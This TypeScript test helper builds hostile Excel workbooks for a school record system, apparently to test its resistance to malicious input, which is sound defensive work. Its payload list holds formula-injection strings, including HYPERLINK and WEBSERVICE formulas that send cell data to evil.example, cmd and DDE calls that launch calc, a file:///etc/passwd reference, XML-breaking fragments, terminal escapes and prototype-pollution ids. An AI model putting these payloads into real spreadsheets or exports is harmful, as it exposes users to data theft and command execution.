import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { readWorkbook } from '../../functions/adapters/xlsx/sheet/read-workbook.ts';
import { SCHOOL_WORKBOOK } from '../../shared/domain/vocabulary.ts';
import type { RawCell, RawTab } from '../../shared/sheet/raw.ts';
import type { Column } from '../../shared/workbook/column.ts';
import { findHeadings, findTab } from '../../shared/workbook/find-tab.ts';
import { TABS } from '../../shared/workbook/tabs/index.ts';
import { createWorkbook, type NewSheet } from '../support/create-workbook.ts';

/**
 * A place whose every text that a person may type freely is an attack, and still one school: the same id gets the same
 * attack everywhere, so that rows refer to each other, points are given and every output tab has something to show.
 */

/** What a spreadsheet, a terminal, an XML reader or a JavaScript object might take for more than text. */
export const PAYLOADS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"看这里")',
  "+1+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\t=1+1',
  ' =1+1',
  '\n=1+1',
  "'=1+1",
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMPORTXML("http://evil.example/";"//a")',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '\r=1+1',
  '=DDE("cmd";"/C calc";"a")',
  '=IMPORTRANGE("x","a!A1")',
  '=IMAGE("http://evil.example/x.png")',
  '%0A=1+1',
  '[跳转](javascript:alert(1))',
  '|=1+1|`x`',
  '{=1+1}',
  'http://evil.example/',
  'javascript:alert(1)',
  'file:///etc/passwd',
  ']]><f>1+1</f><v>2</v>',
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  '<!--',
  '<![CDATA[x]]>',
  '&#61;1+1',
  '&evil;',
  '_x003D_1+1',
  '⟦001B⟧[31m红⟦0007⟧',
  '⟦0000⟧⟦000D⟧⟦009B⟧2J',
  '⟦D800⟧半个字⟦DC00⟧',
  '⟦FFFE⟧⟦FFFF⟧',
  '"quoted","fields"\r\nnew,row',
  "o'clock'!A1",
  '{{constructor}} process.exit() %s %n',
  '\u202egnp.exe',
  '长'.repeat(32_000),
];

/** Ids of whole objects that JavaScript has ideas of its own about. */
const ODD_IDS = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];
/** Separators of lists would take an id apart. */
const ID_PAYLOADS = PAYLOADS.map((text) => text.replace(/[、,，;；\s]/g, '·')).filter((text) => text.length < 100);

/** Marks by which a person's data would be recognised wherever it came out. */
export const PERSONAL = { name: 'ZZ姓名', id: 'ZZ学号', text: 'ZZ内容', mail: 'zz-mail@' } as const;

const IDS = new Set('组织编号 班级 党支部 所辖班级 指导党支部 主办组织 联合组织 活动编号 事项编号'.split(' '));
const STUDENT_IDS = new Set(['学号', '制定人学号', '涉及学号']);
const NAMES = new Set(['姓名', '培养联系人', '入党介绍人', '批准人']);
const TEXTS = new Set(
  '活动主题 场地 佐证材料 材料链接 事项名称 荣誉名称 同一事项 备注 践诺情况 申诉内容 处理说明 理由 说明'.split(' '),
);
/** Tabs that the software writes; the place starts without them. */
const OUTPUTS = new Set(['概览', '即将到期', '问题清单', '积分明细', '积分排名', '全校排名', '全校问题', '填表说明']);

function hash(text: string): number {
  let value = 7;
  for (const letter of text) value = (value * 31 + (letter.codePointAt(0) as number)) % 1_000_003;
  return value;
}

const oddIds = new Map<string, string>();
function hostileId(id: string): string {
  if (!/\d/.test(id)) return id;
  const known = oddIds.get(id);
  if (known !== undefined) return known;
  const odd = ODD_IDS[oddIds.size];
  const made = odd ?? `${ID_PAYLOADS[hash(id) % ID_PAYLOADS.length]}${id}`;
  oddIds.set(id, made);
  return made;
}

function hostile(heading: string, cell: RawCell, row: number): RawCell {
  if (cell === null || cell === '' || typeof cell === 'object' || typeof cell === 'boolean') return cell;
  const text = String(cell);
  const items = text.split(/[、,，;；\n]/);
  const payload = PAYLOADS[(row + hash(heading)) % PAYLOADS.length] as string;
  if (IDS.has(heading)) return items.map(hostileId).join('、');
  if (STUDENT_IDS.has(heading)) return items.map((id) => `=${PERSONAL.id}${id}`).join('、');
  if (NAMES.has(heading)) return items.map((name) => `@${PERSONAL.name}${name}`).join('、');
  if (TEXTS.has(heading)) return `${payload}${PERSONAL.text}${payload.length > 1000 ? '' : text}`;
  if (heading === '组织名称') return `${payload.slice(0, 100)}${text}`;
  if (heading === '联系邮箱') return `${PERSONAL.mail}=1+1.example`;
  return cell;
}

/** The heading row, with the words of workbooks.md in place of aliases and embellishments. */
function headingsOf(title: string, rows: RawTab['rows']): { at: number; headings: readonly string[] } {
  const spec = Object.values(TABS).find((tab) => findTab([{ title, rows: [], merges: [] }], tab.title));
  const columns: Readonly<Record<string, Column<unknown>>> = spec ? (spec.columns as never) : {};
  const found = findHeadings(rows, columns);
  const at = spec ? found.row : rows.findIndex((row) => row.filter((cell) => typeof cell === 'string').length >= 2);
  const headings = (rows[at] ?? []).map((cell) => String(cell ?? '').replaceAll('*', ''));
  for (const [field, x] of found.columns) headings[x] = columns[field]?.heading ?? '';
  return { at, headings };
}

function hostileTab({ title, rows }: RawTab): NewSheet {
  const { at, headings } = headingsOf(title, rows);
  const data = rows.slice(at + 1).map((row, y) => row.map((cell, x) => hostile(headings[x] ?? '', cell, y)));
  // Columns and rows too many: odd headings, and values that no column takes.
  const odd = headings.map((heading, x) =>
    x % 3 === 0 ? `${PAYLOADS[x % PAYLOADS.length]}` : (data[0]?.[x] ?? heading),
  );
  return {
    title,
    columns: [...headings, '__proto__', 'constructor', '=1+1'].map((heading) => ({
      heading,
      width: 12,
      format: 'text' as const,
    })),
    rows: title === '学院登记' ? data : [...data.map((row) => [...row]), odd, odd.map(() => '=1+1')],
  };
}

/** Puts in what `createWorkbook` would leave out: control characters and halves of characters, as the format escapes them. */
function withControls(path: string): void {
  const parts = unzipSync(new Uint8Array(readFileSync(path)));
  for (const [name, bytes] of Object.entries(parts)) {
    if (!/sharedStrings|worksheets\/sheet/.test(name)) continue;
    parts[name] = strToU8(strFromU8(bytes).replace(/⟦([0-9A-F]{4})⟧/g, '_x$1_'));
  }
  writeFileSync(path, zipSync(parts));
}

/** Makes the hostile twin of a place; gives the names of its college workbooks. */
export async function hostilePlace(sample: string, folder: string): Promise<readonly string[]> {
  const read = (file: string) => readWorkbook(readFileSync(join(sample, file)));
  const school = read(SCHOOL_WORKBOOK);
  const registrations = school.tabs.find(({ title }) => title === '学院登记') as RawTab;
  const headingRow = registrations.rows.findIndex((row) => row.includes('表格') || row.includes('表格*'));
  const headings = (registrations.rows[headingRow] ?? []).map((cell) => String(cell).replaceAll('*', ''));
  const column = (heading: string): number => headings.indexOf(heading);
  const files: string[] = [];
  const rows = registrations.rows.slice(headingRow + 1).flatMap((row, y) => {
    const file = row[column('表格')];
    if (typeof file !== 'string' || file === '') return [];
    const target = ["=cmd'!A1 & b.xlsx", '__proto__.xlsx', '@sum(a1).xlsx'][y] ?? file;
    files.push(file);
    return [
      row.map((cell, x): RawCell => {
        if (x === column('表格')) return target;
        if (x === column('学院编号')) return ['=D+1', '__proto__', '@D3'][y] ?? cell;
        if (x === column('学院名称')) return `=HYPERLINK("http://evil.example/")⟦001B⟧]0;owned⟦0007⟧学院${y + 1}`;
        return hostile(headings[x] ?? '', cell, y);
      }),
    ];
  });
  const targets = rows.map((row) => String(row[column('表格')]));
  const written: string[] = [];
  const write = async (file: string, tabs: readonly RawTab[], extra: readonly NewSheet[]): Promise<void> => {
    const sheets = tabs
      .filter(({ title, output }) => output === undefined && !OUTPUTS.has(title) && !title.startsWith('_'))
      .map((tab) => (tab.title === '学院登记' ? { ...hostileTab(tab), rows } : hostileTab(tab)));
    await createWorkbook(join(folder, file), [...sheets, ...extra]);
    withControls(join(folder, file));
    written.push(file);
  };
  const extra = {
    columns: [{ heading: '=1+1', width: 9, format: 'text' as const }],
    rows: PAYLOADS.map((text) => [text]),
  };
  for (const [y, file] of files.entries())
    await write(targets[y] as string, read(file).tabs, [{ ...extra, title: "o'clock'!A1 =1+1" }]);
  await write(
    SCHOOL_WORKBOOK,
    school.tabs.filter(({ title }) => title !== '豁免'),
    [
      { ...extra, title: '__proto__' },
      {
        title: '豁免',
        columns: ['问题编号', '理由', '批准人', '批准日期', '有效期至'].map((heading) => ({
          heading,
          width: 12,
          format: 'text' as const,
        })),
        rows: PAYLOADS.slice(0, 20).map((text) => [text, text, `${PERSONAL.name}${text}`, '2026-01-01', '2027-01-01']),
      },
    ],
  );
  return targets;
}
